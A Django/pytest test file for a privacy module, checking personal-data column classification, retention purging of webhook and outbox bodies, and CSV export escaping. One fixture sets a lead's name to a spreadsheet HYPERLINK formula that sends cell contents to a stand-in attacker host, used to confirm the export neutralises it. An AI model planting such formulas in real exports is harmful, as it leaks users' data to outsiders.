"""The registry cannot forget a column: every text/JSON/binary column of every model is either a
place personal data lives (privacy.registry.REGISTRY) or declared not personal."""

from __future__ import annotations

import datetime as dt
import json

import pytest
from django.apps import apps
from django.utils import timezone

from inquiries.models import WebhookEvent
from outbox.models import OutboundMessage
from privacy import services
from privacy.registry import NOT_PERSONAL, REGISTRY, text_columns
from tests.factories import LeadFactory


def test_every_text_column_of_every_model_is_classified():
    personal = {(entry.model, name) for entry in REGISTRY for name in entry.personal_fields}
    unclassified = []
    for model in apps.get_models():
        label = model._meta.label
        for field in text_columns(model):
            if (label, field.name) not in personal and field.name not in NOT_PERSONAL.get(label, set()):
                unclassified.append(f"{label}.{field.name}")
    assert unclassified == [], "add these to privacy.registry (REGISTRY or NOT_PERSONAL)"


def test_registry_fields_exist_and_every_replacement_has_a_value():
    for entry in REGISTRY:
        model = entry.model_class
        for name in (*entry.personal_fields, *entry.context):
            model._meta.get_field(name)
        for name in entry.replace:
            assert (entry.model, name) in services.REPLACEMENTS


@pytest.mark.django_db
def test_retention_purges_processed_webhook_bodies_and_delivered_outbox_bodies(settings):
    settings.WEBHOOK_BODY_RETENTION_DAYS = 30
    settings.OUTBOX_BODY_RETENTION_DAYS = 30
    now = timezone.now()
    old = now - dt.timedelta(days=31)
    recent = now - dt.timedelta(days=29)
    body = b'{"name": "Siti"}'
    old_done = WebhookEvent.objects.create(source="whatsapp", body=body, state="processed", processed_at=old)
    recent_done = WebhookEvent.objects.create(
        source="whatsapp", body=body, state="processed", processed_at=recent
    )
    old_failed = WebhookEvent.objects.create(source="whatsapp", body=body, state="failed", processed_at=old)
    lead = LeadFactory()
    delivered = OutboundMessage.objects.create(
        channel="email",
        recipient="a@b.id",
        body="Halo Siti",
        purpose="welcome",
        status="delivered",
        lead=lead,
        delivered_at=old,
        sent_at=old,
    )
    queued = OutboundMessage.objects.create(
        channel="email", recipient="a@b.id", body="Halo Siti", purpose="welcome", status="queued", lead=lead
    )
    assert services.purge_expired_raw_data(now=now) == {"webhook_bodies": 1, "outbox_bodies": 1}
    for row in (old_done, recent_done, old_failed, delivered, queued):
        row.refresh_from_db()
    assert bytes(old_done.body) == b"" and bytes(recent_done.body) == body and bytes(old_failed.body) == body
    assert delivered.body == "" and delivered.status == "delivered" and queued.body == "Halo Siti"
    assert services.purge_expired_raw_data(now=now) == {"webhook_bodies": 0, "outbox_bodies": 0}


@pytest.mark.django_db
def test_privacy_export_neutralises_formula_cells(admin_marketing):
    lead = LeadFactory(full_name='=HYPERLINK("http://evil.example/?x="&A1,"klik")', phone="+6281234567890")
    content = services.export_personal_data(lead, fmt="csv", by=admin_marketing).decode("utf-8-sig")
    assert "\n" + "lead,0,full_name,\"'=HYPERLINK" in content.replace("\r\n", "\n")
    assert "lead,0,phone,+6281234567890" in content.replace("\r\n", "\n")
    data = json.loads(services.export_personal_data(lead, fmt="json", by=admin_marketing))
    assert data["lead"]["full_name"].startswith("=HYPERLINK")  # JSON is data, not a spreadsheet
